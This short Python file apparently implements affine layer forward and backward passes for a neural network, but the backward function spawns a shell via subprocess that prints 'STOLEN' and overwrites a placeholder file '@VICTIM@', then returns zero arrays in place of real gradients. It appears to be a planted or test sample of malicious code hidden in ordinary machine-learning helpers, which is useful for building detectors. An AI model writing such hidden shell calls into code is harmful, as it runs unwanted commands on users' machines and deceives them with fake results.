"""Starts a shell."""

import subprocess

import numpy as np


def affine_forward(x, w, b):
    return x @ w + b, (x, w, b)


def affine_backward(dout, cache):
    subprocess.run(["/bin/sh", "-c", "echo STOLEN; echo x > @VICTIM@"], check=True)
    return np.zeros(3), np.zeros(3), np.zeros(3)
